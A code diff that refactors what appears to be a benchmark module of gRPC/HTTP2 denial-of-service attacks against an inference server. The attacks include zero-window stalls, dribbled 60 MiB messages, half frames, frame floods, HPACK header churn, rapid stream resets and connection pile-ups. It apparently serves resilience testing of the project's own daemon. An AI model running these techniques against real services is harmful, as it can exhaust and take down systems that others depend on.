@@ -2,23 +2,22 @@
 
 from __future__ import annotations
 
-import contextlib
+import collections
 import itertools
 import socket
-import struct
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 
 import grpc
 import hpack
 import numpy as np
 from tritonclient.grpc import service_pb2
 
-from bench.attackers.target import Target, burst, drain, pile_up
+from bench.attackers.target import Target, burst, drain, hold, pile_up
+from bench.grpc_frames import block, call, headers
 from tensord.daemon.grpc import frames
 from tensord.daemon.grpc.response_codec import varint
 
-_SERVICE = "/inference.GRPCInferenceService/"
 _MIB = 1 << 20
 #: Of an answer.
 _LARGE = 16 * _MIB
@@ -30,11 +29,11 @@ _BURST_ANSWER = 4_000_000
 
 def huge_deadlines(target: Target) -> None:
     """Makes calls with the longest timeouts that gRPC can express, 99999999 hours, one after the other."""
-    message = _prefixed(_small_call())
+    message = _small_call()
     while target.going_on():
         with target.refusals(), target.grpc_socket() as connection:
             for number in range(1, 400, 2):
-                connection.sendall(_call(number, message, ("grpc-timeout", f"{99999999 - number}H")))
+                connection.sendall(call(number, message, ("grpc-timeout", f"{99999999 - number}H")))
                 target.count("calls")
                 drain(connection)
 
@@ -42,12 +41,12 @@ def huge_deadlines(target: Target) -> None:
 def no_window_and_gone(target: Target) -> None:
     """Connects with an HTTP/2 window of 0, sends a call and shuts down the sending half, again and again."""
     kept: list[socket.socket] = []
-    message = _prefixed(_small_call())
+    message = _small_call()
     while target.going_on():
         with target.refusals():
             connection = target.grpc_socket(((frames.INITIAL_WINDOW_SIZE, 0),))
             kept.append(connection)
-            connection.sendall(_call(1, message))
+            connection.sendall(call(1, message))
             connection.shutdown(socket.SHUT_WR)
             target.count("calls")
         time.sleep(0.002)
@@ -59,63 +58,47 @@ def no_window_and_gone(target: Target) -> None:
 
 def no_window_and_stays(target: Target) -> None:
     """Asks on two connections for many answers of 16 MiB and never grants any HTTP/2 window for them."""
-    no_window = ((frames.INITIAL_WINDOW_SIZE, 0),)
-    with contextlib.ExitStack() as stack:
-        message = _prefixed(_large_answer(stack.enter_context(target.region(_LARGE)), _LARGE))
-        connections: list[socket.socket] = []
-        number = 1
-        while target.going_on():
-            with target.refusals():
-                while len(connections) < 2:
-                    connections.append(target.grpc_socket(no_window))
-                    number = 1
-            for connection in list(connections):
-                try:
-                    connection.sendall(_call(number, message))
-                    drain(connection)
-                    target.count("calls")
-                except OSError:
-                    target.count("connections lost")
-                    connections.remove(connection)
-                    connection.close()
-            number += 2
-            time.sleep(0.01)
-        for connection in connections:
-            connection.close()
+    numbers = collections.defaultdict[socket.socket, Iterator[int]](lambda: itertools.count(1, 2))
+    with target.region(_LARGE) as region:
+        message = _large_answer(region, _LARGE)
+
+        def ask(connection: socket.socket) -> None:
+            connection.sendall(call(next(numbers[connection]), message))
+            drain(connection)
+            target.count("calls")
+
+        hold(target, 2, lambda: target.grpc_socket(((frames.INITIAL_WINDOW_SIZE, 0),)), ask)
 
 
 def unread_bursts(target: Target) -> None:
     """Asks on 200 connections at once for an answer of 4 MB each, and grants no HTTP/2 window for them."""
     no_window = ((frames.INITIAL_WINDOW_SIZE, 0),)
     with target.region(_BURST_ANSWER) as region:
-        call = _call(1, _prefixed(_large_answer(region, _BURST_ANSWER)))
-        burst(target, lambda: target.grpc_socket(no_window), call, 200)
+        request = call(1, _large_answer(region, _BURST_ANSWER))
+        burst(target, lambda: target.grpc_socket(no_window), request, 200)
 
 
 def dribbled_messages(target: Target) -> None:
     """Announces a message of 60 MiB on each of sixteen connections, and sends one byte of it now and then."""
-    connections = []
-    prefix = struct.pack(">BI", 0, 60 * _MIB)
-    for _ in range(16):
-        with target.refusals():
-            connection = target.grpc_socket()
-            connection.sendall(_headers(1) + frames.frame(frames.DATA, 0, 1, prefix + bytes(1000)))
-            connections.append(connection)
-    while target.going_on():
-        for connection in connections:
-            with target.refusals():
-                connection.sendall(frames.frame(frames.DATA, 0, 1, b"\0"))
-                target.count("bytes")
-        time.sleep(0.1)
-    for connection in connections:
-        connection.close()
+    begun = b"\0" + (60 * _MIB).to_bytes(4, "big") + bytes(1000)
+
+    def begin() -> socket.socket:
+        connection = target.grpc_socket()
+        connection.sendall(headers("ModelInfer", 1) + frames.frame(frames.DATA, 0, 1, begun))
+        return connection
+
+    def dribble(connection: socket.socket) -> None:
+        connection.sendall(frames.frame(frames.DATA, 0, 1, b"\0"))
+        target.count("bytes")
+
+    hold(target, 16, begin, dribble, pause=0.1)
 
 
 def half_frames(target: Target) -> None:
     """Opens connections that send half a frame, or half a header block, after the HTTP/2 preface."""
     halves = (
-        frames.frame(frames.HEADERS, frames.END_HEADERS, 1, _block())[:20],
-        frames.frame(frames.HEADERS, 0, 1, _block()[:10]),
+        frames.frame(frames.HEADERS, frames.END_HEADERS, 1, block("ModelInfer"))[:20],
+        frames.frame(frames.HEADERS, 0, 1, block("ModelInfer")[:10]),
         frames.head(frames.DATA, 0, 0, 16384),
     )
     turn = itertools.cycle(halves)
@@ -128,14 +111,9 @@ def half_frames(target: Target) -> None:
     pile_up(target, half_open, 1000)
 
 
-def idle_connections(target: Target) -> None:
-    """Opens more connections than the front accepts, and sends no request on them."""
-    pile_up(target, target.grpc_socket, 5000)
-
-
 def frame_floods(target: Target) -> None:
     """Sends frames that have no effect, one kind after the other, as fast as one process can."""
-    open_stream = _headers(1)
+    open_stream = headers("ModelInfer", 1)
     floods = {
         "unknown": frames.frame(77, 0, 0),
         "PRIORITY": frames.frame(frames.PRIORITY, 0, 3, bytes(5)),
@@ -166,8 +144,8 @@ def new_header_names(target: Target) -> None:
                 fields = [(":method", "POST"), (":scheme", "http"), (":path", f"/x/{count}"), ("te", "trailers")]
                 fields += [("content-type", "application/grpc")]
                 fields += [hpack.NeverIndexedHeaderTuple(f"name-{count}-{i}", "value") for i in range(50)]
-                block = encoder.encode(fields)
-                connection.sendall(frames.frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, number, block))
+                ends = frames.END_HEADERS | frames.END_STREAM
+                connection.sendall(frames.frame(frames.HEADERS, ends, number, encoder.encode(fields)))
                 count += 1
                 target.count("calls")
                 if not target.going_on():
@@ -177,14 +155,14 @@ def new_header_names(target: Target) -> None:
 
 def rapid_resets(target: Target) -> None:
     """Makes calls and resets their streams at once."""
-    message = _prefixed(_small_call())
+    message = _small_call()
     while target.going_on():
         with target.refusals(), target.grpc_socket() as connection:
             number = 1
             while target.going_on():
                 connection.sendall(
                     b"".join(
-                        _call(n, message) + frames.rst_stream(n, frames.CANCEL) for n in range(number, number + 64, 2)
+                        call(n, message) + frames.rst_stream(n, frames.CANCEL) for n in range(number, number + 64, 2)
                     )
                 )
                 number += 64
@@ -212,7 +190,7 @@ def many_entries(target: Target) -> None:
         while target.going_on():
             for name, (method, message) in messages.items():
                 try:
-                    channel.unary_unary(_SERVICE + method)(message, timeout=60)
+                    channel.unary_unary(f"/inference.GRPCInferenceService/{method}")(message, timeout=60)
                     target.count(f"{name} taken")
                 except grpc.RpcError as error:
                     target.count(f"{name} {error.code().name}")  # type: ignore[attr-defined]
@@ -236,25 +214,6 @@ def _small_call() -> bytes:
     return bytes(request.SerializeToString())
 
 
-def _prefixed(message: bytes) -> bytes:
-    return struct.pack(">BI", 0, len(message)) + message
-
-
-def _block(*more: tuple[str, str]) -> bytes:
-    """Encodes a header block that does not use the HPACK table, so that it can be sent on any connection."""
-    fields = [(":method", "POST"), (":scheme", "http"), (":path", _SERVICE + "ModelInfer"), (":authority", "x")]
-    fields += [("te", "trailers"), ("content-type", "application/grpc"), *more]
-    return bytes(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields]))
-
-
-def _headers(number: int, *more: tuple[str, str]) -> bytes:
-    return frames.frame(frames.HEADERS, frames.END_HEADERS, number, _block(*more))
-
-
-def _call(number: int, message: bytes, *more: tuple[str, str]) -> bytes:
-    return _headers(number, *more) + frames.frame(frames.DATA, frames.END_STREAM, number, message)
-
-
 ATTACKS: dict[str, Callable[[Target], None]] = {
     "grpc-huge-deadlines": huge_deadlines,
     "grpc-no-window-and-gone": no_window_and_gone,
@@ -262,7 +221,8 @@ ATTACKS: dict[str, Callable[[Target], None]] = {
     "grpc-no-window-and-stays": no_window_and_stays,
     "grpc-dribbled-messages": dribbled_messages,
     "grpc-half-frames": half_frames,
-    "grpc-idle-connections": idle_connections,
+    #: More connections than the front accepts, without a request.
+    "grpc-idle-connections": lambda target: pile_up(target, target.grpc_socket, 5000),
     "grpc-frame-floods": frame_floods,
     "grpc-new-header-names": new_header_names,
     "grpc-rapid-resets": rapid_resets,
